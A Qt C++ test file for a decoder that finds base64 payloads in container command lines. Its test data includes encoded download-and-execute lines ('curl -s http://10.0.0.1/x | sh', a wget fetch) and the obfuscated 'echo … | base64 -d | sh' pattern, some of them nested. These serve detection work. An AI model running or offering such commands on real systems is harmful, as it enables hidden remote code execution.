// SPDX-License-Identifier: GPL-3.0-or-later
// Base64 payloads in command lines: on every command line of the real demo capture (what it must find and what it
// must leave alone: container ids, hashes, paths) and on hand-written edge cases.

#include "casereader.h"
#include "democase.h"
#include "importjob.h"
#include "payloaddecoder.h"

#include <QSet>
#include <QTemporaryDir>
#include <QTest>

using namespace ShimScope;

class TestPayloadDecoder : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void demoCaptureDecodesExactlyItsPayloads();
    void edgeCases_data();
    void edgeCases();
    void nestedPayload();
};

void TestPayloadDecoder::demoCaptureDecodesExactlyItsPayloads()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString casePath = dir.filePath(QStringLiteral("demo.shimscope"));
    QCOMPARE(DemoCase::import(casePath).result, ImportReport::Result::Success);

    CaseReader reader(casePath);
    QSet<QByteArray> decoded;
    int commandLines = 0;
    QByteArray b64Entrypoint;
    QByteArrayList misplaced;
    reader.forEachEvent([&](const EventRow& row) {
        ++commandLines;
        for (const DecodedPayload& payload : PayloadDecoder::find(row.argv)) {
            if (payload.depth == 1 && row.argv.at(payload.argument).mid(payload.offset, payload.encoded.size())
                    != payload.encoded)
                misplaced.append(payload.encoded);
            decoded.insert(payload.decoded);
            if (row.argv.contains("lab-b64") && row.argv.value(0).endsWith("docker"))
                b64Entrypoint = payload.decoded;
        }
        return true;
    });
    QVERIFY(commandLines > 900);
    QVERIFY2(misplaced.isEmpty(), misplaced.join(' ').constData());
    // `docker run --name lab-b64 … sh -c 'echo aWQ7IHVuYW1lIC1hOyBzbGVlcCAx | base64 -d | sh'`.
    QCOMPARE(b64Entrypoint, QByteArray("id; uname -a; sleep 1"));
    // Nothing else in ~990 command lines full of 64-hex container ids, shim sockets and paths decodes to text,
    // but the one payload the lab ran (seen in the docker CLI, the runc create and the entrypoint's own exec).
    // The host's look-alike pipeline (`cat /etc/hostname | base64 | base64 -d`) carries no literal payload.
    QCOMPARE(decoded, QSet<QByteArray>{"id; uname -a; sleep 1"});
}

void TestPayloadDecoder::edgeCases_data()
{
    QTest::addColumn<QByteArray>("argument");
    QTest::addColumn<QByteArray>("expected"); // empty: nothing must be found

    QTest::newRow("curl pipe") << QByteArray("echo Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveCB8IHNo | base64 -d | sh")
                               << QByteArray("curl -s http://10.0.0.1/x | sh");
    QTest::newRow("padded") << QByteArray("ZWNobyBoZWxsbyB3b3JsZA==") << QByteArray("echo hello world");
    QTest::newRow("url alphabet") << QByteArray("--data=d2dldCAtcU8tIGh0dHA6Ly9leGFtcGxlLmNvbS9hP2I9Yw")
                                  << QByteArray("wget -qO- http://example.com/a?b=c");
    QTest::newRow("container id") << QByteArray("40a56542b4f94b3c5cf3b6e1a5e0a8d9d1e0cf1f06f0e2b8a3e4d2c1b0a9f8e7")
                                  << QByteArray();
    QTest::newRow("path") << QByteArray("/run/containerd/io.containerd.runtime.v2.task/moby/abc/config.json")
                          << QByteArray();
    QTest::newRow("sha256 digest") << QByteArray("sha256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=") << QByteArray();
    QTest::newRow("short") << QByteArray("aWQ=") << QByteArray();
    QTest::newRow("binary payload") << QByteArray("AAECAwQFBgcICQoLDA0ODxAREhM=") << QByteArray();
    QTest::newRow("plain words") << QByteArray("containerdshimruncv2namespace") << QByteArray();
}

void TestPayloadDecoder::edgeCases()
{
    QFETCH(QByteArray, argument);
    QFETCH(QByteArray, expected);
    const QList<DecodedPayload> found = PayloadDecoder::find({QByteArray("sh"), QByteArray("-c"), argument});
    if (expected.isEmpty()) {
        QVERIFY2(found.isEmpty(), found.isEmpty() ? "" : found.first().decoded.constData());
        return;
    }
    QCOMPARE(found.size(), 1);
    QCOMPARE(found.first().argument, 2);
    QCOMPARE(found.first().decoded, expected);
    QCOMPARE(argument.mid(found.first().offset, found.first().encoded.size()), found.first().encoded);
}

void TestPayloadDecoder::nestedPayload()
{
    // echo "echo aWQ7IHVuYW1lIC1hOyBzbGVlcCAx | base64 -d | sh" | base64
    const QByteArray outer = "ZWNobyBhV1E3SUhWdVlXMWxJQzFoT3lCemJHVmxjQ0F4IHwgYmFzZTY0IC1kIHwgc2gK";
    const QList<DecodedPayload> found = PayloadDecoder::findInText(outer);
    QCOMPARE(found.size(), 2);
    QCOMPARE(found.at(0).decoded, QByteArray("echo aWQ7IHVuYW1lIC1hOyBzbGVlcCAx | base64 -d | sh\n"));
    QCOMPARE(found.at(1).depth, 2);
    QCOMPARE(found.at(1).decoded, QByteArray("id; uname -a; sleep 1"));
}

QTEST_GUILESS_MAIN(TestPayloadDecoder)
#include "tst_payloaddecoder.moc"
